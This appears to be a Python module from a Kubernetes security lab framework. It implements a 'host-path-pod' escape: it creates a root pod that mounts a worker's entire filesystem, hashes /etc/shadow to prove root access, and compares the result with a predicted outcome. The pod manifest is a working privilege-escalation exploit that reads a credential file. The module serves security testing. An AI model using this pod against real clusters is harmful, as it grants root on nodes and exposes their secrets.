"""Become root on a worker by having it run a pod that mounts its file system.

Whoever may create pods decides what they may do on the machine, unless admission objects; the
pod need not even be privileged.
"""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING, Any

from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import View
from labkit.model.rights import Action, restricted
from labkit.techniques._access import CHANNEL, api_url, apiserver_of, caller_at, may_all, options_at
from labkit.techniques._ask import ask
from labkit.techniques._base import (
    NETWORK,
    POD,
    ROOT_ON_WORKER,
    USER_ON_WORKER,
    Prediction,
    Technique,
)
from labkit.techniques._reach import Answer, run
from labkit.techniques._verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

NAMESPACE, NAME, WORKER = "default", "labkit-breakout", "worker1"
PODS = f"/api/v1/namespaces/{NAMESPACE}/pods"
ONLY_ROOT_READS, PATIENCE = "/etc/shadow", 30.0
#: What a container leaves there, the apiserver shows to whoever may read the pod.
COMMAND = f"sha256sum /machine{ONLY_ROOT_READS} >/dev/termination-log"
ACTION = Action("create", "pods", namespace=NAMESPACE)


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: whether the caller may create pods, and admission lets him."""
    caller = caller_at(view.env, foothold)
    allowed = may_all(view, caller, [ACTION])
    objection = restricted(apiserver_of(view.env), caller)
    if not allowed.succeeds or objection is None:
        return allowed
    return Prediction(False, (str(objection),))


def execute(lab: Lab, foothold: str) -> Verdict:
    """Create the pod, and wait for what it read."""
    try:
        return ask(
            lab,
            TECHNIQUE.name,
            foothold,
            api_url(lab, PODS),
            body=json.dumps(_pod()).encode(),
            options=options_at(lab.environment, foothold),
            proof=lambda answer: _read(lab, answer),
            control=lambda: _control(lab),
        )
    finally:
        lab.kubectl("delete", "pod", NAME, f"--namespace={NAMESPACE}", "--ignore-not-found",
                    "--force", "--grace-period=0")  # fmt: skip


def _pod() -> dict[str, Any]:
    container = {
        "name": "breakout",
        "image": "labkit/workload:1",
        "imagePullPolicy": "Never",
        "command": ["sh", "-c", COMMAND],
        "securityContext": {"runAsUser": 0},
        "volumeMounts": [{"name": "machine", "mountPath": "/machine"}],
    }
    spec = {
        "nodeName": WORKER,
        "restartPolicy": "Never",
        "automountServiceAccountToken": False,
        "containers": [container],
        "volumes": [{"name": "machine", "hostPath": {"path": "/"}}],
    }
    metadata = {"name": NAME, "namespace": NAMESPACE}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}


def _read(lab: Lab, answer: Answer) -> str:
    if json.loads(answer.body).get("kind") != "Pod":
        raise ProbeError("the apiserver answered, but not with the pod")
    path = "{.status.containerStatuses[0].state.terminated.message}"
    get = ("get", "pod", NAME, f"--namespace={NAMESPACE}", f"--output=jsonpath={path}")
    deadline = time.monotonic() + PATIENCE
    while not (said := lab.kubectl(*get).text):
        if time.monotonic() > deadline:
            raise ProbeTimeout(f"the pod did not run within {PATIENCE:g} s")
        time.sleep(0.2)
    truth = run(lab, WORKER, ["sha256sum", ONLY_ROOT_READS], check=True).text.split()[0]
    if truth not in said:
        raise ProbeError(f"the pod ran, but did not read {ONLY_ROOT_READS}")
    return f"the pod read {ONLY_ROOT_READS} of {WORKER}; the right bytes by their hash"


def _control(lab: Lab) -> str:
    lab.kubectl("create", "--dry-run=server", "--filename=-", stdin=json.dumps(_pod()).encode())
    return "the administrator may create the same pod (a dry run)"


TECHNIQUE = Technique(
    name="host-path-pod",
    title="Become root on a worker with a pod that mounts its files",
    footholds=(NETWORK, USER_ON_WORKER, POD, ROOT_ON_WORKER),
    grants=(ROOT_ON_WORKER,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1610", "T1611"),
    stride=("elevation of privilege",),
    cwe=("CWE-250", "CWE-269"),
    sources=(
        "Securing communications in Kubernetes (2016), Worker nodes",
        "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
        "https://attack.mitre.org/techniques/T1611/",
    ),
    predict=predict,
    execute=execute,
)
